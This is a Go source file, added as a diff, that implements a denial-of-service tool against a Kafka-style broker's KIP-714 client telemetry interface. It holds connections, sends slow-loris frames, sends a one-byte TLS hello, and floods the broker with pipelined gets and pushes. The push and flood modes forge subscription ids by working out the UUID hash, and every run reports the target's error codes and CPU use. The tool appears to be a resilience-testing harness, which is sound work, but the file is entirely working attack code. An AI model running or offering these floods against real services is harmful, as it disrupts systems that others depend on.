@@ -1,0 +1,345 @@
+package main
+
+import (
+	"bufio"
+	"encoding/binary"
+	"flag"
+	"fmt"
+	"io"
+	"math/rand"
+	"net"
+	"os"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+)
+
+const (
+	// openingAtOnce bounds what waits in the target's backlog: a longer queue only makes SYNs be sent again.
+	openingAtOnce = 256
+	trickle       = time.Second
+	pairsAtOnce   = 50
+	batchesAtOnce = 2
+	longestAnswer = 1 << 16
+)
+
+type attackReport struct {
+	Seconds  float64        `json:"seconds"`
+	Opened   int64          `json:"connections_opened"`
+	Ended    int64          `json:"connections_ended"`
+	Held     int64          `json:"connections_held"`
+	Failed   int64          `json:"connections_failed"`
+	Bytes    int64          `json:"bytes_sent"`
+	Gets     map[string]int `json:"gets_by_error_code"`
+	Pushes   map[string]int `json:"pushes_by_error_code"`
+	CPU      cpuTimes       `json:"cpu_seconds"`
+	Problems map[string]int `json:"problems"`
+}
+
+// attacker is what the connections of one attack share.
+type attacker struct {
+	target                             string
+	dialer                             net.Dialer
+	until                              time.Time
+	reopening                          <-chan time.Time
+	payload                            []byte
+	codec                              byte
+	head                               int
+	opened, ended, held, failed, bytes atomic.Int64
+	opening                            chan struct{}
+	mutex                              sync.Mutex
+	gets, pushes                       map[uint16]int
+	problems                           map[string]int
+}
+
+var attacks = map[string]struct {
+	about string
+	run   func(a *attacker, connection net.Conn, index int) error
+}{
+	"connections":     {"holds connections and says nothing", (*attacker).hold},
+	"slow-loris":      {"most of a PushTelemetry frame at once, then a byte a second", (*attacker).slowLoris},
+	"tls-hello":       {"one byte of a TLS ClientHello", (*attacker).tlsHello},
+	"pushes":          {"pushes, each of a new client instance: behind a get on every other connection, else without", (*attacker).push},
+	"telemetry-flood": {"pipelined gets and pushes, each pair of a new client instance", (*attacker).flood},
+}
+
+// attack does harm from one source address for a while; whatever the target does about it is counted, not an error.
+func attack(flags *flag.FlagSet, arguments []string) error {
+	var kinds []string
+	for name, kind := range attacks {
+		kinds = append(kinds, name+" ("+kind.about+")")
+	}
+	kind := flags.String("kind", "", "one of: "+strings.Join(kinds, "; "))
+	target := flags.String("target", "", "host:port to connect to")
+	from := flags.String("from", "127.0.0.2", "source address")
+	connections := flags.Int("connections", 8, "connections to have open; one that the target ends is opened again")
+	seconds := flags.Float64("seconds", 5, "how long")
+	reopen := flags.Int("reopen", 1000, "connections opened again in a second, at most")
+	head := flags.Int("head-bytes", 1<<20, "slow-loris: metrics bytes that come at once")
+	file := flags.String("payload", "", "pushes, telemetry-flood: file with the Metrics field's bytes, compressed already")
+	codec := flags.String("codec", "none", "what they are compressed with: none, gzip, snappy, lz4, zstd")
+	_ = flags.Parse(arguments)
+	number, known := codecNumbers[*codec]
+	source := net.ParseIP(*from)
+	if attacks[*kind].run == nil || !known || source == nil || *connections < 1 || *seconds <= 0 || *reopen < 1 {
+		return fmt.Errorf("--kind is one of %s; --codec none, gzip, snappy, lz4 or zstd; --from an IP address; the numbers more than 0", kinds)
+	}
+	a := &attacker{target: *target, codec: number, head: *head, opening: make(chan struct{}, openingAtOnce),
+		gets: map[uint16]int{}, pushes: map[uint16]int{}, problems: map[string]int{}}
+	if *file != "" {
+		var err error
+		if a.payload, err = os.ReadFile(*file); err != nil {
+			return fmt.Errorf("--payload: %w", err)
+		}
+	}
+	started := time.Now()
+	a.until = started.Add(time.Duration(*seconds * float64(time.Second)))
+	a.dialer = net.Dialer{LocalAddr: &net.TCPAddr{IP: source}, Deadline: a.until}
+	ticker := time.NewTicker(time.Second / time.Duration(*reopen))
+	defer ticker.Stop()
+	a.reopening = ticker.C
+	var group sync.WaitGroup
+	for i := 0; i < *connections; i++ {
+		group.Add(1)
+		go func(i int) {
+			defer group.Done()
+			a.again(attacks[*kind].run, i)
+		}(i)
+	}
+	group.Wait()
+	cpu, err := cpuOf([]int{os.Getpid()})
+	if err != nil {
+		return err
+	}
+	return report(attackReport{Seconds: time.Since(started).Seconds(), Opened: a.opened.Load(), Ended: a.ended.Load(),
+		Held: a.held.Load(), Failed: a.failed.Load(), Bytes: a.bytes.Load(), Gets: named(a.gets), Pushes: named(a.pushes),
+		CPU: cpu, Problems: a.problems})
+}
+
+// again has one connection open for as long as the attack lasts.
+func (a *attacker) again(do func(*attacker, net.Conn, int) error, index int) {
+	for first := true; time.Now().Before(a.until); first = false {
+		if !first {
+			select {
+			case <-a.reopening:
+			case <-time.After(time.Until(a.until)):
+				return
+			}
+		}
+		a.opening <- struct{}{}
+		connection, err := a.dialer.Dial("tcp4", a.target)
+		<-a.opening
+		if err != nil {
+			a.failed.Add(1)
+			continue
+		}
+		a.opened.Add(1)
+		err = do(a, lasting{connection, a}, index)
+		_ = connection.(*net.TCPConn).SetLinger(0) // thousands in TIME_WAIT would use up the ports
+		connection.Close()
+		if !time.Now().Before(a.until) {
+			a.held.Add(1)
+			return
+		}
+		a.ended.Add(1)
+		a.mutex.Lock()
+		a.problems[problem(err)]++
+		a.mutex.Unlock()
+	}
+}
+
+// problem names an error without the addresses in it.
+func problem(err error) string {
+	if err == nil {
+		return "nothing"
+	}
+	text := err.Error()
+	return text[strings.LastIndex(text, ": ")+1:]
+}
+
+// lasting is a connection that no deadline outlasts the attack on, and that counts what is sent.
+type lasting struct {
+	net.Conn
+	a *attacker
+}
+
+func (l lasting) SetDeadline(at time.Time) error {
+	if at.After(l.a.until) {
+		at = l.a.until
+	}
+	return l.Conn.SetDeadline(at)
+}
+
+func (l lasting) Write(data []byte) (int, error) {
+	n, err := l.Conn.Write(data)
+	l.a.bytes.Add(int64(n))
+	return n, err
+}
+
+// drain reads until the target ends the connection, or the attack is over.
+func drain(connection net.Conn) error {
+	_, err := io.Copy(io.Discard, connection)
+	if err == nil {
+		err = io.EOF
+	}
+	return err
+}
+
+func (a *attacker) hold(connection net.Conn, _ int) error {
+	_ = connection.SetDeadline(a.until)
+	return drain(connection)
+}
+
+func (a *attacker) tlsHello(connection net.Conn, _ int) error {
+	_ = connection.SetDeadline(a.until)
+	if _, err := connection.Write([]byte{0x16}); err != nil {
+		return err
+	}
+	return drain(connection)
+}
+
+func (a *attacker) slowLoris(connection net.Conn, _ int) error {
+	frame := pushRequest(1, randomID(), 0, 0, make([]byte, 1<<20))
+	sent := min(a.head, len(frame)-60)
+	_ = connection.SetDeadline(a.until)
+	if _, err := connection.Write(frame[:sent]); err != nil {
+		return err
+	}
+	ended := make(chan error, 1)
+	go func() { ended <- drain(connection) }()
+	for ticker := time.NewTicker(trickle); ; sent++ {
+		select {
+		case err := <-ended:
+			ticker.Stop()
+			return err
+		case <-ticker.C:
+			if sent < len(frame) {
+				_, _ = connection.Write(frame[sent : sent+1])
+			}
+		}
+	}
+}
+
+// push follows each answer at once. A client instance that was never seen may push without a get, under the
+// subscription id that it can work out: only the hash of the client instance id is another (KIP-714).
+func (a *attacker) push(connection net.Conn, index int) error {
+	known, err := a.greet(connection)
+	if err != nil {
+		return err
+	}
+	var buffer []byte
+	for correlation := uint32(3); ; correlation += 2 {
+		id := randomID()
+		subscription := known ^ hash(id)
+		if index%2 == 0 {
+			answer, err := exchange(connection, getRequest(correlation, [16]byte{}), buffer)
+			if err != nil {
+				return err
+			}
+			buffer = answer
+			a.count(a.gets, answer)
+			if got, err := parseSubscription(answer); err == nil && got.code == 0 {
+				id, subscription = got.instance, got.id
+			}
+		}
+		answer, err := exchange(connection, pushRequest(correlation+1, id, subscription, a.codec, a.payload), buffer)
+		if err != nil {
+			return err
+		}
+		buffer = answer
+		a.count(a.pushes, answer)
+	}
+}
+
+func (a *attacker) flood(connection net.Conn, _ int) error {
+	known, err := a.greet(connection)
+	if err != nil {
+		return err
+	}
+	_ = connection.SetDeadline(a.until)
+	room := make(chan struct{}, batchesAtOnce)
+	ended := make(chan struct{})
+	defer close(ended)
+	go func() {
+		for correlation := uint32(4); ; {
+			var batch []byte
+			for i := 0; i < pairsAtOnce; i++ {
+				id := randomID()
+				batch = append(batch, getRequest(correlation, id)...)
+				batch = append(batch, pushRequest(correlation+1, id, known^hash(id), a.codec, a.payload)...)
+				correlation += 2
+			}
+			select {
+			case room <- struct{}{}:
+			case <-ended:
+				return
+			}
+			if _, err := connection.Write(batch); err != nil {
+				return
+			}
+		}
+	}()
+	reader := bufio.NewReaderSize(connection, 64<<10)
+	for answers := 1; ; answers++ {
+		var length [4]byte
+		if _, err := io.ReadFull(reader, length[:]); err != nil {
+			return err
+		}
+		size := binary.BigEndian.Uint32(length[:])
+		if size < 4 || size > longestAnswer {
+			return fmt.Errorf("an answer of %d bytes", size)
+		}
+		answer := make([]byte, size)
+		if _, err := io.ReadFull(reader, answer); err != nil {
+			return err
+		}
+		if answer[3]&1 == 0 { // the correlation id of a get
+			a.count(a.gets, answer)
+		} else {
+			a.count(a.pushes, answer)
+		}
+		if answers%(2*pairsAtOnce) == 0 {
+			<-room
+		}
+	}
+}
+
+// greet does what a client does first, and returns the part of every subscription id that is no instance's.
+func (a *attacker) greet(connection net.Conn) (uint32, error) {
+	if _, err := exchange(connection, apiVersionsRequest(1, "attack", softwareName, softwareVersion), nil); err != nil {
+		return 0, err
+	}
+	answer, err := exchange(connection, getRequest(2, [16]byte{}), nil)
+	if err != nil {
+		return 0, err
+	}
+	a.count(a.gets, answer)
+	subscription, err := parseSubscription(answer)
+	if err != nil {
+		return 0, nil // a fake broker's filler
+	}
+	return subscription.id ^ hash(subscription.instance), nil
+}
+
+func (a *attacker) count(counts map[uint16]int, answer []byte) {
+	code := uint16(0xffff)
+	if len(answer) >= 11 {
+		code = binary.BigEndian.Uint16(answer[9:])
+	}
+	a.mutex.Lock()
+	defer a.mutex.Unlock()
+	counts[code]++
+}
+
+func randomID() (id [16]byte) {
+	binary.BigEndian.PutUint64(id[:], rand.Uint64())
+	binary.BigEndian.PutUint64(id[8:], rand.Uint64())
+	return id
+}
+
+// hash is java.util.UUID's, which KIP-714's subscription ids contain.
+func hash(id [16]byte) uint32 {
+	halves := binary.BigEndian.Uint64(id[:]) ^ binary.BigEndian.Uint64(id[8:])
+	return uint32(halves>>32) ^ uint32(halves)
+}
